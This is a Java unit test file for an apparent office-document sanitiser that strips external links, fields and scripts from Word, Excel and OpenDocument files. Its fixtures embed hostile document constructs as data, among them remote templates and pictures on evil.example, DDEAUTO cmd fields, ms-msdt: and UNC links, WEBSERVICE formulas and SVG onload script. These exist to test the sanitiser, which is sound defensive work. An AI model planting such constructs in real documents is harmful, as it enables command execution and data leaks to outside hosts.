package org.sluis.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.sluis.inspection.parsing.Rule;

/** A refused office document has a copy without its links that the gate lets in, with the same text and values. */
class OfficeCopiesTest {

    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final String R = " xmlns:r='" + RELATIONSHIPS + "'";
    private static final String SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.";

    private static String document(WordDocument document) {
        return copy(document).members().getOrDefault("word/document.xml", "");
    }

    private static CopyMade copy(WordDocument document) {
        return CopyMade.of("report.docx", document.bytes());
    }

    @ParameterizedTest
    @CsvSource({
        "attachedTemplate,https://evil.example/t.dotm",
        "oleObject,file://server/share/x.docx",
        "image,http://evil.example/pixel.png",
        "frame,https://evil.example/",
        "hyperlink,\\\\server\\share\\x.docx",
        "hyperlink,javascript:alert(1)",
        "hyperlink,ms-msdt:/id"
    })
    void relationshipGoes(String kind, String target) {
        CopyMade copy = copy(new WordDocument()
                .external("hyperlink", "https://example.org/stays")
                .external(kind, target));
        assertThat(copy.members().get("word/_rels/document.xml.rels"))
                .contains("https://example.org/stays")
                .doesNotContain(kind.equals("hyperlink") ? target : kind);
        assertThat(copy.removed()).isEqualTo(1);
    }

    @Test
    void textOfALinkStaysWithoutIt() {
        String text = document(new WordDocument()
                .external("hyperlink", "\\\\server\\share\\x.docx")
                .body("<w:p" + R + "><w:hyperlink r:id='x0'><w:r><w:t>our report</w:t></w:r></w:hyperlink></w:p>"));
        assertThat(text).contains("<w:p", "<w:r><w:t>our report</w:t></w:r>").doesNotContain("hyperlink");
    }

    @Test
    void pictureThatIsInsideStaysWithoutItsLink() {
        String text = document(new WordDocument()
                .external("image", "http://evil.example/x.png")
                .body("<a:blip xmlns:a='urn:a'" + R + " r:embed='r7' r:link='x0'/>"));
        assertThat(text).contains("r:embed=\"r7\"").doesNotContain("r:link");
    }

    @Test
    void fieldLeavesItsLastResult() {
        String text = document(new WordDocument()
                .body("<w:p><w:r><w:t>Before </w:t></w:r>"
                        + "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
                        + "<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>42.5</w:t></w:r>"
                        + "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
                        + "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"));
        assertThat(text).contains("Before ", "42.5", " PAGE ").doesNotContain("DDE", "AUTO", "cmd", "separate");
        assertThat(text.split("fldChar ", -1)).hasSize(3);
    }

    @Test
    void fieldInAFieldGoesWithTheInstructionItBelongsTo() {
        String text = document(new WordDocument()
                .body("<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText> INCLUDEPICTURE \"http://</w:instrText>"
                        + "<w:fldChar w:fldCharType='begin'/><w:instrText> AUTHOR </w:instrText>"
                        + "<w:fldChar w:fldCharType='separate'/><w:t>somebody</w:t>"
                        + "<w:fldChar w:fldCharType='end'/><w:instrText>.example\" </w:instrText>"
                        + "<w:fldChar w:fldCharType='separate'/><w:t>the picture</w:t>"
                        + "<w:fldChar w:fldCharType='end'/></w:r></w:p>"));
        assertThat(text).contains("the picture").doesNotContain("somebody", "INCLUDEPICTURE", "AUTHOR", "fldChar");
    }

    /** Word would put the address together from what the field inside it says. */
    @Test
    void fieldWhoseInstructionIsComputedLeavesItsResult() {
        CopyMade copy = copy(new WordDocument()
                .body("<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText> INCLUDETEXT </w:instrText>"
                        + "<w:fldChar w:fldCharType='begin'/><w:instrText> REF place </w:instrText>"
                        + "<w:fldChar w:fldCharType='end'/>"
                        + "<w:fldChar w:fldCharType='separate'/><w:t>the text</w:t>"
                        + "<w:fldChar w:fldCharType='end'/></w:r></w:p>"));
        assertThat(copy.members().get("word/document.xml"))
                .contains("the text")
                .doesNotContain("INCLUDETEXT", "REF place", "fldChar");
        assertThat(copy.rules()).containsExactly(Rule.FETCHING_FIELD);
    }

    /** Word takes text of the document and symbols for a part of the instruction. */
    @Test
    void fieldWhoseInstructionIsTextLeavesItsResult() {
        CopyMade copy = copy(new WordDocument()
                .body("<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText> D</w:instrText>"
                        + "<w:t>DE</w:t><w:sym w:char='F041'/><w:instrText>UTO cmd </w:instrText>"
                        + "<w:fldChar w:fldCharType='separate'/><w:t>the text</w:t>"
                        + "<w:fldChar w:fldCharType='end'/></w:r></w:p>"));
        assertThat(copy.members().get("word/document.xml"))
                .contains("the text")
                .doesNotContain("DE<", "F041", "cmd", "fldChar");
        assertThat(copy.rules()).containsExactly(Rule.DDE);
    }

    /** Programs fetch it as a picture, whatever the relationship says. */
    @Test
    void hyperlinkThatIsUsedAsAPictureGoesAndTheLinkStays() {
        CopyMade copy = copy(new WordDocument()
                .external("hyperlink", "https://example.org/both")
                .body("<w:p" + R + "><w:hyperlink r:id='X0'><w:r><w:t>our report</w:t></w:r></w:hyperlink>"
                        + "<w:drawing><a:blip xmlns:a='urn:a' r:link='x0'/></w:drawing></w:p>"));
        assertThat(copy.members().get("word/document.xml"))
                .contains("our report", "hyperlink")
                .doesNotContain("blip");
        assertThat(copy.rules()).containsExactly(Rule.REMOTE_PICTURE);
    }

    @Test
    void simpleFieldLeavesItsResult() {
        CopyMade copy = copy(new WordDocument()
                .body("<w:p><w:fldSimple w:instr='DDEAUTO cmd'><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>"));
        assertThat(copy.members().get("word/document.xml"))
                .contains("<w:p><w:r><w:t>7</w:t></w:r></w:p>")
                .doesNotContain("fldSimple");
        assertThat(copy.rules()).containsExactly(Rule.DDE);
    }

    @Test
    void oldPictureKeepsItsShape() {
        assertThat(document(new WordDocument()
                        .body("<w:pict><v:shape id='s1'><v:imagedata src='http://evil.example/x.png' title='seal'/>"
                                + "</v:shape></w:pict>")))
                .contains("<v:shape id=\"s1\">", "<v:imagedata title=\"seal\"")
                .doesNotContain("evil.example");
    }

    @Test
    void whatIsNotTouchedStaysByteForByte() {
        String part = "<?xml version='1.0'?>\r\n<a   b='1&#10;2'  ><!-- as it was --></a>";
        CopyMade copy = copy(new WordDocument()
                .part("customXml/item1.xml", part)
                .external("attachedTemplate", "https://evil.example/t.dotm"));
        assertThat(copy.members()).containsEntry("customXml/item1.xml", part);
    }

    @Test
    void rewrittenPartKeepsNamespacesTextAndLineEnds() {
        assertThat(document(new WordDocument()
                        .body("<w:p xmlns:mc='urn:mc' mc:Ignorable='w14' xmlns:w14='urn:w14' w14:id='7'>"
                                + "<w:t xml:space='preserve'> a &lt; b &amp;#169; \u00e9&#13;c </w:t>"
                                + "<u xmlns='urn:other'><v/></u></w:p><w:fldSimple w:instr='DDE x'/>")))
                .contains(
                        "mc:Ignorable=\"w14\"",
                        "xmlns:w14=\"urn:w14\"",
                        "w14:id=\"7\"",
                        "xml:space=\"preserve\"> a &lt; b &amp;#169; \u00e9&#13;c </w:t>",
                        "<u xmlns=\"urn:other\"><v></v></u>");
    }

    @Test
    void drawingLosesItsScript() {
        CopyMade copy = copy(
                new WordDocument()
                        .declared("/word/media/image1.svg", "image/svg+xml")
                        .part(
                                "word/media/image1.svg",
                                "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>x</script><rect width='3'/></svg>"));
        assertThat(copy.members().get("word/media/image1.svg"))
                .contains("<rect width=\"3\"")
                .doesNotContain("onload", "script");
    }

    @Test
    void macrosHaveNoCopy() {
        CopyMade tried = CopyMade.tried(
                "report.docx",
                new WordDocument().part("word/vbaProject.bin", "x").bytes());
        assertThat(tried.cleaning().obstacle().orElseThrow().rule()).isEqualTo(Rule.MACRO);
        assertThat(tried.bytes()).isEmpty();
    }

    @Test
    void formulaThatFetchesLeavesItsValueAndTheOthersStay() {
        CopyMade copy = CopyMade.of("figures.xlsx", workbook(Map.of(), """
                <c r="A1"><f>WEBSERVICE("http://evil.example")</f><v>12</v></c>\
                <c r="A2"><f>SUM(A1:A1)</f><v>13</v></c>\
                <c r="A3"><f t="shared" ref="A3:A4" si="0">WEBSERVICE("http://evil.example/"&amp;B3)</f><v>14</v></c>\
                <c r="A4"><f t="shared" si="0"/><v>15</v></c>"""));
        assertThat(copy.members().get("xl/worksheets/sheet1.xml"))
                .contains("<v>12</v>", "<f>SUM(A1:A1)</f><v>13</v>", "<v>14</v>", "<v>15</v>")
                .doesNotContain("evil.example", "shared");
        assertThat(copy.members()).doesNotContainKey("xl/calcChain.xml");
        assertThat(copy.members().get("[Content_Types].xml")).doesNotContain("calcChain");
        assertThat(copy.members().get("xl/_rels/workbook.xml.rels"))
                .contains("sheet1.xml")
                .doesNotContain("calcChain");
    }

    @Test
    void linkedWorkbookGoesWithAllThatRefersToIt() {
        byte[] workbook = workbook(
                Map.of(
                        "xl/externalLinks/externalLink1.xml",
                        "<?xml version='1.0'?><externalLink xmlns='urn:s'" + R
                                + "><externalBook r:id='rId1'/></externalLink>",
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        relationships(
                                "<Relationship Id='rId1' Type='%s/externalLinkPath' Target='file://server/x.xlsx' TargetMode='External'/>"
                                        .formatted(RELATIONSHIPS))),
                "<c r=\"A1\"><f>[1]Sheet1!A1+Table1[2020]</f><v>12</v></c><c r=\"A2\"><f>SUM(Table1[2020])</f><v>9</v></c>");
        CopyMade copy = CopyMade.of("figures.xlsx", workbook);
        Map<String, String> members = copy.members();
        assertThat(members)
                .doesNotContainKeys(
                        "xl/externalLinks/externalLink1.xml", "xl/externalLinks/_rels/externalLink1.xml.rels");
        assertThat(members.get("xl/workbook.xml")).contains("<sheet ").doesNotContain("externalReference");
        assertThat(members.get("xl/_rels/workbook.xml.rels")).doesNotContain("externalLink");
        assertThat(members.get("[Content_Types].xml")).doesNotContain("externalLink");
        assertThat(members.get("xl/worksheets/sheet1.xml"))
                .contains("<v>12</v>", "SUM(Table1[2020])")
                .doesNotContain("[1]");
    }

    @Test
    void pictureFromElsewhereGoesFromAWorkbookAndItsFiguresStay() {
        CopyMade copy = CopyMade.of("figures.xlsx", WorkbookSample.withPicture("https://evil.example/pixel.png"));
        assertThat(copy.members().get("xl/worksheets/sheet1.xml")).contains("<v>52.5</v>", "drawing");
        assertThat(copy.members().get("xl/drawings/_rels/drawing1.xml.rels")).doesNotContain("evil.example");
        assertThat(copy.rules()).containsExactly(Rule.REMOTE_PICTURE);
    }

    private static byte[] workbook(Map<String, String> more, String cells) {
        Archive archive = new Archive();
        more.forEach(archive::with);
        boolean linked = more.containsKey("xl/externalLinks/externalLink1.xml");
        return archive.with(
                        "[Content_Types].xml",
                        "<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
                                + "<Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
                                + override("/xl/workbook.xml", "sheet.main")
                                + override("/xl/worksheets/sheet1.xml", "worksheet")
                                + override("/xl/calcChain.xml", "calcChain")
                                + (linked ? override("/xl/externalLinks/externalLink1.xml", "externalLink") : "")
                                + "</Types>")
                .with("_rels/.rels", relationships(relationship("r1", "officeDocument", "xl/workbook.xml")))
                .with(
                        "xl/_rels/workbook.xml.rels",
                        relationships(relationship("r1", "worksheet", "worksheets/sheet1.xml")
                                + relationship("r2", "calcChain", "calcChain.xml")
                                + (linked
                                        ? relationship("r3", "externalLink", "externalLinks/externalLink1.xml")
                                        : "")))
                .with(
                        "xl/workbook.xml",
                        main(
                                "workbook",
                                "<sheets><sheet name='A' sheetId='1' r:id='r1'/></sheets>"
                                        + (linked
                                                ? "<externalReferences><externalReference r:id='r3'/></externalReferences>"
                                                : "")))
                .with("xl/calcChain.xml", main("calcChain", "<c r='A1'/>"))
                .with(
                        "xl/worksheets/sheet1.xml",
                        main("worksheet", "<sheetData><row r='1'>" + cells + "</row></sheetData>"))
                .bytes();
    }

    private static String main(String root, String content) {
        return "<?xml version='1.0'?><%s xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'%s>%s</%s>"
                .formatted(root, R, content, root);
    }

    private static String override(String part, String type) {
        return "<Override PartName='%s' ContentType='%s+xml'/>".formatted(part, SHEET + type);
    }

    private static String relationship(String id, String kind, String target) {
        return "<Relationship Id='%s' Type='%s/%s' Target='%s'/>".formatted(id, RELATIONSHIPS, kind, target);
    }

    private static String relationships(String entries) {
        return "<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
                + entries + "</Relationships>";
    }

    @Test
    void openDocumentKeepsItsTextAndValues() {
        CopyMade copy = CopyMade.of("report.odt", openDocument("""
                <text:p>See <text:a xlink:href="file://server/share/x.odt">our site</text:a>\
                 and <text:a xlink:href="https://example.org/">theirs</text:a></text:p>\
                <draw:frame><draw:image xlink:href="http://evil.example/x.png"/></draw:frame>\
                <draw:frame><draw:image xlink:href="Pictures/y.png"/></draw:frame>\
                <text:section><text:section-source xlink:href="http://evil.example/t.odt"/><text:p>kept</text:p></text:section>\
                <table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)" office:value="4">\
                <text:p>4</text:p></table:table-cell>\
                <text:dde-connection-decls><text:dde-connection-decl office:name="x"/></text:dde-connection-decls>"""));
        assertThat(copy.members().get("content.xml"))
                .contains(
                        "See our site and",
                        "https://example.org/",
                        "Pictures/y.png",
                        "<text:section><text:p>kept</text:p></text:section>",
                        "office:value=\"4\"")
                .doesNotContain("server", "evil.example", "formula", "dde-connection-decl ");
        assertThat(copy.members().keySet()).first().isEqualTo("mimetype");
        assertThat(copy.removed()).isEqualTo(5);
    }

    @Test
    void signatureOfAnOpenDocumentIsNotKept() {
        CopyMade copy = CopyMade.of(
                "report.odt",
                openDocument(
                        "<draw:image xlink:href=\"http://evil.example/x.png\"/>",
                        Map.of("META-INF/documentsignatures.xml", "<a/>")));
        assertThat(copy.cleaning().signaturesLost()).isTrue();
        assertThat(copy.members()).doesNotContainKey("META-INF/documentsignatures.xml");
    }

    private static byte[] openDocument(String body) {
        return openDocument(body, Map.of());
    }

    private static byte[] openDocument(String body, Map<String, String> more) {
        Archive archive = new Archive();
        archive.stored("mimetype", "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII));
        more.forEach(archive::with);
        return archive.with(
                        "META-INF/manifest.xml",
                        "<?xml version='1.0'?><manifest:manifest xmlns:manifest='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'>"
                                + "<manifest:file-entry manifest:full-path='/' manifest:media-type='application/vnd.oasis.opendocument.text'/>"
                                + "<manifest:file-entry manifest:full-path='content.xml' manifest:media-type='text/xml'/>"
                                + "</manifest:manifest>")
                .with("content.xml", """
                        <?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"\
                         xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"\
                         xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"\
                         xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"\
                         xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>%s</office:text>\
                        </office:body></office:document-content>""".formatted(body))
                .bytes();
    }
}
